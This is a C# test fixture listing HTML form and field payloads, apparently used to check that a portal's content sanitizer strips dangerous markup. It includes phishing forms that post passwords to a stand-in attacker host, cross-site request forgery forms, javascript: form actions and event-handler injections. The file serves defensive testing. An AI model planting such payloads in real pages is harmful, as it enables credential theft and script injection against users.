namespace Dashboard.Testing;

/// <summary>Forms and fields: what a reader fills in or presses.</summary>
internal static class FormBodies
{
    public static IReadOnlyList<(string Name, string Why, string Html)> All { get; } =
    [
        ("sign-in elsewhere", "asks for a password under the portal's address", "<form action=https://evil.example/stolen method=post><input name=p type=password value=x><button>Sign in</button></form>"),
        ("the portal's own sign-out", "sends with the reader's cookie", "<form action=/auth/logout?stolen method=post><button>Continue</button></form>"),
        ("the portal's own, by get", "a form without a method", "<form action=/stolen><input name=q value=x><input type=submit></form>"),
        ("button that names its target", "the button overrides the form", "<form action=/><button formaction=https://evil.example/stolen>x</button></form>"),
        ("button without a form", "a button belongs to a form by id", "<form id=f action=/stolen></form><button form=f>x</button><input type=submit form=f formaction=/stolen>"),
        ("button that runs", "its target is code", "<form><button formaction=javascript:canary()>x</button></form>"),
        ("picture that sends", "a picture is a button", "<form action=/stolen><input type=image src=https://evil.example/stolen.png></form>"),
        ("sends into the page above", "the answer replaces the page", "<form action=/stolen target=_top><button>x</button></form>"),
        ("sends as a dialog", "a method without a target", "<dialog open><form method=dialog><button onclick=canary()>x</button></form></dialog>"),
        ("sends as multipart", "with another encoding", "<form action=/stolen method=post enctype=multipart/form-data><input type=hidden name=a value=b><button>x</button></form>"),
        ("sends as text", "which can be made to look like JSON", "<form action=/api/v1/stolen method=post enctype=text/plain><input name='{\"a\":\"' value='\"}'><button>x</button></form>"),
        ("search", "an element of old that asks", "<isindex action=javascript:canary() type=image>"),
        ("key maker", "an element of old", "<keygen autofocus onfocus=canary() name=k>"),
        ("fields without a form", "look like the portal's own", "<textarea>x</textarea><select><option>x</option></select><input type=file><input type=color>"),
        ("label of something else", "a click on it is a click there", "<label for=main>x</label><label for=notification-subject>y</label><label>z<input type=checkbox></label>"),
        ("filled in by the browser", "a password manager fills what it knows", "<input type=email autocomplete=username><input type=password autocomplete=current-password>"),
        ("text that can be edited", "a place to type anywhere", "<p contenteditable>Type your token here</p><p contenteditable=plaintext-only>x</p>"),
        ("keys of the page", "takes keys that the page uses", "<p draggable=true tabindex=1 accesskey=j>x</p><button accesskey=k>y</button>"),
        ("fieldsets", "forms' other elements", "<fieldset><legend>x</legend><output form=f>y</output></fieldset><progress value=1></progress><meter value=1></meter>"),
        ("suggestions", "a list that offers", "<input list=l><datalist id=l><option value=x></datalist>"),
        ("commands", "a button that shows or hides others", "<button command=show-modal commandfor=components-reconnect-modal>x</button><button popovertarget=main popovertargetaction=hide>y</button>"),
        ("dragging out", "what is dragged goes elsewhere", "<a href=https://vendor.example draggable=true ondragstart=canary()>Drag me</a><div dropzone=move ondrop=canary()>x</div>"),
        ("form without an end", "swallows what comes after it", "<form action=https://evil.example/stolen><button>x</button><textarea name=rest>"),
        ("form around a table", "misplaced forms are moved", "<table><form action=/stolen><tr><td><button>x</button></td></tr></form></table>"),
        ("interest", "shows another element as soon as it is pointed at", "<a href=https://vendor.example interestfor=p>x</a><button interestfor=p>y</button><div popover=hint id=p>Sign in again</div>"),
        ("select with a page in it", "newer browsers draw what older ones drop", "<style>select,::picker(select){appearance:base-select}</style><select><button><selectedcontent></selectedcontent></button><option selected><img src=x onerror=canary()>a</option></select>"),
        ("dialog that closes by a click anywhere", "takes the clicks that are meant for the page", "<dialog open closedby=any id=d>Sign in again</dialog><button command=request-close commandfor=d>x</button><button command=--leave commandfor=d>y</button>"),
        ("leave of the browser", "an element that asks for camera and place by a button of the browser's own", "<permission type='camera microphone'></permission><geolocation autolocate></geolocation><usermedia type=camera></usermedia>"),
    ];
}
